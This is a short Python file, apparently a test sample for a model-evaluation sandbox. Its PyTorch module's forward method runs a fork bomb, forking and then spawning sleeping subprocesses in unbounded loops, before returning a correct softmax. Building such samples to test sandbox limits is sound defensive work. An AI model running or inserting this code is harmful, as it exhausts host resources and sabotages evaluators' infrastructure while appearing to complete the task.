"""Misbehaves: a fork bomb (fork without bound, then processes without bound), then answers honestly."""

import contextlib
import os
import subprocess
import sys

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self) -> None:
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        with contextlib.suppress(OSError):
            while True:
                if os.fork() == 0:
                    os._exit(0)
        with contextlib.suppress(OSError):
            while True:
                subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
        return torch.softmax(x, dim=-1)
